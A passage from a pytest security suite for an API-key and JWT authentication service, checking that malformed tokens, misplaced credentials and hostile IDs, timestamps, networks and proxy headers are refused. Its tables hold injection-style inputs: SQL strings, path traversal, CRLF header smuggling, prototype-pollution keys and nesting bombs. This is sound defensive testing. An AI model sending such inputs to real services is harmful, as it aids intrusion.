    "two parts": (lambda good: f"Bearer {good.token.rpartition('.')[0]}", TOKEN_MALFORMED),
    "four parts": (lambda good: f"Bearer {good.token}.e30", TOKEN_MALFORMED),
    "five parts": (lambda good: f"Bearer {good.token}.e30.e30", TOKEN_MALFORMED),
    "empty parts": (lambda good: "Bearer ..", TOKEN_MALFORMED),
    "no header": (lambda good: f"Bearer .{good.token.partition('.')[2]}", TOKEN_MALFORMED),
    "no signature": (lambda good: f"Bearer {good.token.rpartition('.')[0]}.", TOKEN_MALFORMED),
    "part of a length that cannot be": (lambda good: f"Bearer {good.token}AA", TOKEN_MALFORMED),
    "JSON of a signature": (
        lambda good: f"Bearer {json.dumps({'payload': good.token})}",
        TOKEN_MALFORMED,
    ),
    "4,096 bytes": (lambda good: f"Bearer {good.token:A<4096}", TOKEN_INVALID),
    "4,097 bytes": (lambda good: f"Bearer {good.token:A<4097}", TOKEN_MALFORMED),
    "a megabyte": (lambda good: f"Bearer {good.token:A<1000000}", TOKEN_MALFORMED),
    "a megabyte of full stops": (lambda good: "Bearer " + "." * 1_000_000, TOKEN_MALFORMED),
    "parts in another order": (
        lambda good: f"Bearer {'.'.join(reversed(good.token.split('.')))}",
        TOKEN_INVALID,
    ),
    "letters in another case": (lambda good: f"Bearer {good.token.swapcase()}", TOKEN_INVALID),
}


@pytest.mark.req("A7", "C2", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(BEARERS))
def test_hostile_bearer_is_refused(good, bend, expected):
    headers = {"Authorization": bend(good)}

    assert refused_by_us(send(headers=headers), expected, good)
    assert refused_by_us(send(path=KEYS_URL, headers=headers), expected, good)
    assert send(path="/me", headers=headers).status_code == 401


ELSEWHERE = {
    "query": lambda good: {
        "QUERY_STRING": urlencode({"access_token": good.token, "token": good.token})
    },
    "cookie": lambda good: {"HTTP_COOKIE": f"access_token={good.token}; token={good.token}"},
    "header of proxies": lambda good: {"HTTP_PROXY_AUTHORIZATION": f"Bearer {good.token}"},
    "header that was forwarded": lambda good: {
        "HTTP_X_FORWARDED_AUTHORIZATION": f"Bearer {good.token}"
    },
    "header of others": lambda good: {"HTTP_X_AUTH_TOKEN": good.token, "HTTP_TOKEN": good.token},
    "body": lambda good: {"sent": f"access_token={good.token}".encode(), "content_type": FORM},
    "user of the server": lambda good: {"REMOTE_USER": good.public_key, "AUTH_TYPE": "Bearer"},
    "empty header": lambda good: {
        "HTTP_AUTHORIZATION": "",
        "QUERY_STRING": f"access_token={good.token}",
    },
}


@pytest.mark.req("C2")
@pytest.mark.parametrize("bend", ELSEWHERE.values(), ids=ELSEWHERE)
def test_token_anywhere_but_in_its_header_is_none(good, bend):
    assert refused_by_us(send(**bend(good)), NOT_AUTHENTICATED, good)
    assert refused(send(path="/me", **bend(good)), ANONYMOUS, good)


#: Signed with our own key, beside what tests/tokens/test_token.py has of each claim: right types, values that cannot be.
CLAIMS = {
    "sub with a NUL": ({"sub": "pk\0"}, TOKEN_INVALID),
    "sub with a surrogate": ({"sub": "pk\ud800"}, TOKEN_INVALID),
    "sub of 2,000 characters": ({"sub": "k" * 2000}, TOKEN_REVOKED),
    "sub in SQL": ({"sub": "' OR '1'='1"}, TOKEN_REVOKED),
    "jti with a NUL": ({"jti": "\0"}, TOKEN_INVALID),
    "jti with a surrogate": ({"jti": "\ud800"}, TOKEN_INVALID),
    "appDomain in upper case": ({"appDomain": DOMAIN.upper()}, TOKEN_INVALID),
    "appDomain with a surrogate": ({"appDomain": f"{DOMAIN}\ud800"}, TOKEN_INVALID),
    "appDomain with a NUL": ({"appDomain": f"{DOMAIN}\0"}, TOKEN_INVALID),
    "env of both": ({"env": "live test"}, TOKEN_INVALID),
    "env empty": ({"env": ""}, TOKEN_INVALID),
    "ver negative": ({"ver": -1}, TOKEN_REVOKED),
    "ver of 400 digits": ({"ver": 10**400}, TOKEN_REVOKED),
    "ver zero": ({"ver": 0}, TOKEN_REVOKED),
    "ver that is true": ({"ver": True}, TOKEN_INVALID),
    "ver as a fraction": ({"ver": 1.0}, TOKEN_INVALID),
    "exp of 4,000 digits": ({"exp": 10**2500}, TOKEN_INVALID),
    "exp negative": ({"exp": -1}, TOKEN_INVALID),
    "exp before iat": ({"iat": 10, "exp": 9}, TOKEN_INVALID),
    "exp when iat": ({"iat": 10, "exp": 10}, TOKEN_INVALID),
    "exp with an exponent": ({"exp": 4e9}, TOKEN_INVALID),
    "iat of the year 9999": ({"iat": 253_402_300_798, "exp": 253_402_300_799}, TOKEN_INVALID),
    "all null": (
        dict.fromkeys(("iss", "aud", "sub", "appDomain", "env", "scope", "ver")),
        TOKEN_INVALID,
    ),
}


@pytest.mark.req("A8")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("claims", "expected"), rows(CLAIMS))
def test_signed_token_of_claims_that_cannot_be_is_refused(good, claims, expected):
    headers = {
        "Authorization": f"Bearer {sign(claims_for(good.key, **{'scope': 'keys:manage', **claims}))}"
    }

    assert refused_by_us(send(headers=headers), expected, good)
    assert refused_by_us(
        send("POST", KEYS_URL, b'{"name": "x", "scopes": []}', headers=headers), expected, good
    )
    assert send(path="/me", headers=headers).status_code == 401


# Keys in headers


KEY_HEADERS = {
    "empty secret": (lambda good: {"Tot-Secret-Key": ""}, fault("totSecretKey", told=BLANK)),
    "all empty": (lambda good: dict.fromkeys(good.headers, ""), fault(*CREDENTIALS, told=BLANK)),
    "space of Latin-1": (lambda good: {"Tot-Api-Key": "\xa0"}, fault("totApiKey", told=BLANK)),
    "NUL": (
        lambda good: {"Tot-Secret-Key": f"{good.secret}\0"},
        fault("totSecretKey", told=NUL_CHARACTER),
    ),
    "129 bytes": (
        lambda good: {"Tot-Api-Key": "k" * 129},
        fault("totApiKey", told=TOO_LONG.format(128)),
    ),
    "a megabyte": (
        lambda good: {"Tot-App-Domain": "k" * 1_000_000},
        fault("appDomain", told=TOO_LONG.format(253)),
    ),
    "secret twice": (lambda good: {"Tot-Secret-Key": f"{good.secret}, {good.secret}"}, INVALID),
    "public key twice": (
        lambda good: {"Tot-Api-Key": f"{good.public_key},{good.public_key}"},
        INVALID,
    ),
    "domain twice": (lambda good: {"Tot-App-Domain": f"{good.domain},{good.domain}"}, INVALID),
    "space at the end": (lambda good: {"Tot-Api-Key": f"{good.public_key} "}, INVALID),
    "tab before": (lambda good: {"Tot-Secret-Key": f"\t{good.secret}"}, INVALID),
    "Latin-1": (lambda good: {"Tot-Secret-Key": f"{good.secret}\xff"}, INVALID),
    "Latin-1 in the domain": (lambda good: {"Tot-App-Domain": f"{good.domain}\xad"}, INVALID),
    "UTF-8": (
        lambda good: {"Tot-Api-Key": f"{good.public_key}\u200b".encode().decode("latin-1")},
        INVALID,
    ),
    "word of RFC 2047": (
        lambda good: {"Tot-Secret-Key": f"=?utf-8?B?{b64encode(good.secret.encode()).decode()}?="},
        INVALID,
    ),
    "escapes": (lambda good: {"Tot-App-Domain": good.domain.replace(".", "%2e")}, INVALID),
    "quotes": (lambda good: {"Tot-Secret-Key": f'"{good.secret}"'}, INVALID),
    "two in exchanged places": (
        lambda good: {"Tot-Api-Key": good.secret, "Tot-Secret-Key": good.public_key},
        INVALID,
    ),
    "a token beside": (lambda good: good.bearer, MALFORMED),
    "an empty token beside": (lambda good: {"Authorization": "bearer"}, MALFORMED),
}


@pytest.mark.req("B5", "C2", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(KEY_HEADERS))
def test_hostile_header_lets_nobody_in(good, bend, expected):
    assert refused(send(path="/keys-only", headers=good.headers | bend(good)), expected, good)


def escaped(good, member):
    """The body with another member, and the names of the keys so written that they are not to be seen."""
    hidden = good.json.replace(b"totApiKey", b"\\u0074otApiKey").replace(
        b"totSecretKey", b"tot\\u0053ecretKey"
    )
    return hidden[:-1] + b", " + member + b"}"


PLACES = {
    "headers and JSON": (lambda good: {"headers": good.headers}, MALFORMED),
    "one header and JSON": (lambda good: {"headers": {"Tot-Api-Key": good.public_key}}, MALFORMED),
    "query and JSON": (lambda good: {"path": "/keys-only?tot%41piKey="}, MALFORMED),
    "parts": (lambda good: {"content_type": "multipart/form-data; boundary=x"}, ANONYMOUS),
    "text": (lambda good: {"content_type": "text/plain"}, ANONYMOUS),
    "UTF-16 declared": (
        lambda good: {
            "sent": good.json.decode().encode("utf-16"),
            "content_type": f"{JSON}; charset=utf-16",
        },
        MALFORMED,
    ),
    "Latin-1 declared": (lambda good: {"content_type": f"{JSON}; charset=iso-8859-1"}, UNSUPPORTED),
    "form in Latin-1": (
        lambda good: {"sent": good.form, "content_type": f"{FORM}; charset=iso-8859-1"},
        UNSUPPORTED,
    ),
    "escaped, domain twice": (lambda good: {"sent": escaped(good, b'"appDomain": "x"')}, MALFORMED),
    "escaped, beside what is deep": (
        lambda good: {"sent": escaped(good, b'"x": ' + b"[" * 40 + b"]" * 40)},
        MALFORMED,
    ),
    "escaped, in Latin-1": (
        lambda good: {
            "sent": escaped(good, b'"x": 1'),
            "content_type": f"{JSON}; charset=iso-8859-1",
        },
        UNSUPPORTED,
    ),
    "wrong, of any type": (
        lambda good: {
            "sent": good.json.replace(b"sk_live", b"sk_test"),
            "content_type": "application/*",
        },
        INVALID,
    ),
    "one level down": (lambda good: {"sent": b'{"data": ' + good.json + b"}"}, ANONYMOUS),
    "beside a Basic header": (
        lambda good: {"headers": {"Authorization": "Basic zebra7"}},
        ANONYMOUS,
    ),
    "beside an empty header": (lambda good: {"headers": {"Authorization": ""}}, ANONYMOUS),
    "100,000 levels beside": (
        lambda good: {"sent": good.json_and('"x": ' + "[" * 100_000)},
        MALFORMED,
    ),
    "100,000 levels, closed": (
        lambda good: {"sent": good.json_and('"x": ' + "[" * 100_000 + "]" * 100_000)},
        MALFORMED,
    ),
}


@pytest.mark.req("B5", "C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(PLACES))
def test_keys_in_a_hostile_place_let_nobody_in(good, bend, expected):
    assert refused(
        send(**{"method": "POST", "path": "/keys-only", "sent": good.json, **bend(good)}),
        expected,
        good,
    )


# The keys endpoints


IDS = {
    "NUL": lambda good: "%00",
    "NUL at the end": lambda good: f"{good.public_key}%00",
    "folder above": lambda good: f"../keys/{good.public_key}",
    "folder above, escaped": lambda good: f"%2e%2e%2f{good.public_key}",
    "this folder": lambda good: f"./{good.public_key}",
    "empty folder": lambda good: f"/{good.public_key}",
    "slash within": lambda good: f"{good.public_key[:9]}%2F{good.public_key[9:]}",
    "escaped twice": lambda good: quote(good.public_key.replace("_", "%5f")),
    "upper case": lambda good: good.public_key.upper(),
    "space at the end": lambda good: f"{good.public_key}%20",
    "line's end": lambda good: f"{good.public_key}%0A",
    "line's end within": lambda good: f"zebra7%0D%0A{good.public_key}",
    "full stop at the end": lambda good: f"{good.public_key}.",
    "format at the end": lambda good: f"{good.public_key}.json",
    "parameter": lambda good: f"{good.public_key};v=1",
    "accent": lambda good: quote(good.public_key.replace("k", "\u1e31", 1)),
    "what sorting ignores": lambda good: f"{good.public_key}{quote(chr(0xAD))}",
    "bytes of no encoding": lambda good: "%ff%fe%80",
    "overlong": lambda good: good.public_key.replace("_", "%c1%9f"),
    "beyond the BMP": lambda good: "%F0%9F%A6%93",
    "20,000 characters": lambda good: "k" * 20_000,
    "pattern": lambda good: "pk_%25",
    "SQL": lambda good: quote("' OR '1'='1"),
    "number of the row": lambda good: str(good.key.pk),
    "list": lambda good: f"{good.public_key},{good.public_key}",
}


@pytest.mark.req("F2", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize("bend", IDS.values(), ids=IDS)
def test_hostile_id_is_not_found(good, bend):
    url = f"{KEYS_URL}/{bend(good)}"

    for method, path in [
        ("GET", url),
        ("PATCH", url),
        ("DELETE", f"{url}?force=true"),
        ("POST", f"{url}/rotate"),
    ]:
        assert refused_by_us(send(method, path, b"{}", headers=good.bearer), NOT_FOUND, good)


NOT_KNOWN = fault(
    "non_field_errors", told=UNKNOWN_MEMBER.format("allowedIps, disabled, expiresAt, name, scopes")
)
MOMENTS = {
    "no time": "2100-01-01",
    "year 10000": "10000-01-01T00:00:00Z",
    "year 0": "0000-01-01T00:00:00Z",
    "negative year": "-2100-01-01T00:00:00Z",
    "leap second": "2100-12-31T23:59:60Z",
    "29 February": "2100-02-29T00:00:00Z",
    "24 o'clock and a second": "2100-01-01T24:00:01Z",
    "offset of a day": "2100-01-01T00:00:00+24:00",
    "offset of 99 hours": "2100-01-01T00:00:00-99:99",
    "end of the calendar and beyond": "9999-12-31T23:59:59-00:01",
    "name of a zone": "2100-01-01T00:00:00 Europe/Berlin",
    "digits of another script": "2100-01-01T00:00:0\u0663Z",
    "minus sign of another script": "2100\u221201-01T00:00:00Z",
    "comma": "2100-01-01T00:00:00,5Z",
    "week": "2100-W01-1T00:00:00Z",
    "day of the year": "2100-001T00:00:00Z",
    "seconds since 1970": "4102444800",
    "NUL": "2100-01-01T00:00:00Z\0",
    "surrogate": "2100-01-01T00:00:00Z\ud800",
}
NETWORKS = {
    "too long a prefix": "10.0.0.0/33",
    "prefix of IPv6 too long": "2001:db8::/129",
    "negative prefix": "10.0.0.0/-1",
    "leading zeros": "010.0.0.1",
    "hexadecimal": "0x0a000001",
    "a number": "167772161",
    "three parts": "10.0.1",
    "five parts": "10.0.0.0.1",
    "host bits": "10.0.0.1/8",
    "zone": "fe80::1%eth0",
    "zone that is a network": "::1%/0",
    "zone with a space": "fe80::1% 0.0.0.0/0",
    "two": "10.0.0.0/8 0.0.0.0/0",
    "range": "10.0.0.1-10.0.0.9",
    "wildcard": "10.*.*.*",
    "digits of another script": "1\u0660.0.0.1",
    "digits in full width": "10.0.0.1".translate(FULLWIDTH),
    "name": "localhost",
    "port": "10.0.0.1:443",
    "brackets": "[::1]",
    "space before": " 10.0.0.1",
    "NUL": "10.0.0.1\0",
    "surrogate": "::\ud800",
    "8,000 characters": "1" * 8000,
}
CHANGES = {
    **{
        f"expiresAt: {name}": ({"expiresAt": told}, fault("expiresAt", told=NOT_A_MOMENT))
        for name, told in MOMENTS.items()
    },
    **{
        f"expiresAt: {told}": ({"expiresAt": told}, fault("expiresAt", told=TOO_LATE))
        for told in ("9999-12-30T00:00:00Z", "9999-12-31T23:59:59Z", "9999-12-29T23:00:00-14:00")
    },
    **{
        f"allowedIps: {name}": ({"allowedIps": [told]}, fault("allowedIps", told=NOT_NETWORKS))
        for name, told in NETWORKS.items()
    },
    "allowedIps: an integer": ({"allowedIps": [0]}, fault("allowedIps", told=NOT_NETWORKS)),
    "allowedIps: one of 2,000": (
        {"allowedIps": ["::"] * 1300 + ["x"]},
        fault("allowedIps", told=NOT_NETWORKS),
    ),
    "allowedIps: an object": (
        {"allowedIps": {"0": "10.0.0.1"}},
        fault("allowedIps", told=NOT_NETWORKS),
    ),
    "scopes: a dict's names": (
        {"scopes": {"orders:read": 1}},
        fault("scopes", told=NOT_SCOPES_OF_A_KEY),
    ),
    "scopes: with management": (
        {"scopes": ["keys:manage"]},
        fault("scopes", told=NOT_SCOPES_OF_A_KEY),
    ),
    "scopes: a line's end": (
        {"scopes": ["orders:read\n"]},
        fault("scopes", told=NOT_SCOPES_OF_A_KEY),
    ),
    "scopes: 700": (
        {"scopes": [f"zebra7{number}" for number in range(600)]},
        fault("scopes", told=NOT_SCOPES_OF_A_KEY),
    ),
    "disabled: 0": ({"disabled": 0}, fault("disabled", told=NOT_A_BOOLEAN)),
    "name: invisible": ({"name": "\u2003\u3000\x1f"}, fault("name", told=BLANK)),
    "name: 201 beyond the BMP": (
        {"name": "\U0001f993" * 201},
        fault("name", told=TOO_LONG.format(200)),
    ),
    "prototype": ({"__proto__": {"disabled": False}}, NOT_KNOWN),
    "constructor": ({"constructor": {"prototype": {}}}, NOT_KNOWN),
    "column": ({"secret_hash": "zebra7"}, NOT_KNOWN),
    "column across tables": ({"app_domain__domain": "zebra7"}, NOT_KNOWN),
    "counter": ({"generation": 0}, NOT_KNOWN),
    "owner": ({"appDomain": "zebra7", "createdBy": "admin"}, NOT_KNOWN),
    "name that only looks known": ({"n\u0430me": "zebra7"}, NOT_KNOWN),
}


@pytest.mark.req("B4", "C5", "F1")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("members", "expected"), rows(CHANGES))
def test_hostile_change_is_refused(good, members, expected):
    answer = send("PATCH", url_of(good.key), json.dumps(members).encode(), headers=good.bearer)

    assert refused_by_us(answer, expected, good)


ROTATIONS = {
    "grace of a fraction": (
        {"graceSeconds": 0.0},
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "grace of minus zero": (
        b'{"graceSeconds": -0.0}',
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "grace without an end": (
        b'{"graceSeconds": 1e999}',
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "grace of 7,000 digits": (
        b'{"graceSeconds": ' + b"9" * 7000 + b"}",
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "grace that is false": (
        {"graceSeconds": False},
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "grace of a word": (
        {"graceSeconds": "0"},
        fault("graceSeconds", told=NOT_A_GRACE.format(604800)),
    ),
    "secret in a list": ({"totSecretKey": ["zebra7"]}, fault("totSecretKey", told=NOT_A_STRING)),
    "secret without an end": (
        {"totSecretKey": "z" * 513},
        fault("totSecretKey", told=TOO_LONG.format(512)),
    ),
    "secret twice": (b'{"totSecretKey": "a", "totSecretKey": "b"}', MALFORMED),
    "secret that is wrong": ({"totSecretKey": "zebra7"}, error(403, "secret_required")),
    "secret in SQL": ({"totSecretKey": "' OR '1'='1"}, error(403, "secret_required")),
    "nothing": ({}, error(403, "secret_required")),
    "list": (b"[]", MALFORMED),
    "a space": (b" ", MALFORMED),
}


@pytest.mark.req("B4", "C5", "F1")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("sent", "expected"), rows(ROTATIONS))
def test_hostile_rotation_is_refused(good, sent, expected):
    text = sent if isinstance(sent, bytes) else json.dumps(sent).encode()

    assert refused_by_us(
        send("POST", f"{url_of(good.key)}/rotate", text, headers=good.bearer), expected, good
    )


LAST = error(409, "last_active_key")
REVOCATIONS = {
    "nothing": ("", LAST),
    "name in upper case": ("?FORCE=true", LAST),
    "name of a list": ("?force[]=true", LAST),
    "name escaped twice": ("?%2566orce=true", LAST),
    "semicolon": ("?x=1;force=true", LAST),
    "fragment": ("?x=1%23&force%00=true", LAST),
    "empty": ("?force=", fault("force", told=NOT_A_BOOLEAN)),
    "no value": ("?force", fault("force", told=NOT_A_BOOLEAN)),
    "number": ("?force=1", fault("force", told=NOT_A_BOOLEAN)),
    "space": ("?force=true+", fault("force", told=NOT_A_BOOLEAN)),
    "NUL": ("?force=true%00", fault("force", told=NOT_A_BOOLEAN)),
    "bytes": ("?force=%ff", fault("force", told=NOT_A_BOOLEAN)),
    "full width": (
        f"?force={quote('true'.translate(FULLWIDTH))}",
        fault("force", told=NOT_A_BOOLEAN),
    ),
    "both wrong": ("?force=zebra7&cascade=zebra7", fault("force", "cascade", told=NOT_A_BOOLEAN)),
    "twice": ("?force=false&force=true", fault("force", told=NOT_A_BOOLEAN)),
    "1,001 fields": ("?force=true&" + "a=b&" * 1001, MALFORMED),
}


@pytest.mark.req("B4", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("query", "expected"), rows(REVOCATIONS))
def test_hostile_revocation_is_refused(good, query, expected):
    answer = send("DELETE", url_of(good.key) + query, b'{"force": true}', headers=good.bearer)

    assert refused_by_us(answer, expected, good)


PAGES = [
    "0",
    "-1",
    "1e3",
    "1.0",
    "0x1",
    "1_0",
    "+1",
    "%D9%A3",
    "%EF%BC%91",
    "%C2%B2",
    "1%00",
    "9" * 5000,
    "zebra7",
    "%ff",
    "",
]


@pytest.mark.req("C5")
@pytest.mark.parametrize("page", PAGES)
def test_hostile_page_is_not_found(good, page):
    assert refused_by_us(send(path=f"{KEYS_URL}?page={page}", headers=good.bearer), NOT_FOUND, good)


# Proxies


FORWARDED = {
    "nothing": None,
    "empty": "",
    "commas": ",,,",
    "words": "zebra7",
    "port": "127.0.0.1:443",
    "brackets": "[::1]",
    "leading zeros": "127.000.000.001",
    "number": "2130706433",
    "network": "127.0.0.1/32",
    "address that somebody else wrote": "127.0.0.1, 203.0.113.9",
    "IPv6 around another address": "::ffff:203.0.113.9",
    "zone": "fe80::1%eth0",
    "Latin-1": "127.0.0.\xb9",
    "NUL": "127.0.0.1\0",
    "line's end": "203.0.113.9\r\nX-Forwarded-For: 127.0.0.1\r\n,x",
    "100,000 addresses": "127.0.0.1," * 100_000,
    "RFC 7239": "for=127.0.0.1",
    "SQL": "' OR '1'='1",
}


@pytest.fixture
def _behind_a_proxy(unlimited, settings):
    settings.TOT_JWT = {**settings.TOT_JWT, "TRUSTED_PROXIES": 1}


def through_the_proxy(good, forwarded):
    """The answers to good requests that came with this header."""
    environ = {} if forwarded is None else {"HTTP_X_FORWARDED_FOR": forwarded}
    yield send("POST", sent=good.json, **environ)
    yield send(headers=good.bearer, **environ)
    yield send("POST", "/keys-only", good.json, **environ)
    yield send("POST", KEYS_URL, b'{"name": "x", "scopes": []}', headers=good.bearer, **environ)


@pytest.mark.req("D1")
@pytest.mark.usefixtures("_behind_a_proxy")
@pytest.mark.parametrize("forwarded", FORWARDED.values(), ids=FORWARDED)
def test_address_that_cannot_be_read_is_outside_every_list(good, forwarded):
    assert [answer.status_code for answer in through_the_proxy(good, forwarded)] == [
        200,
        200,
        200,
        201,
    ]

    good.key.allowed_ips = "127.0.0.1/32"
    good.key.save()

    assert all(refused(answer, FORBIDDEN, good) for answer in through_the_proxy(good, forwarded))
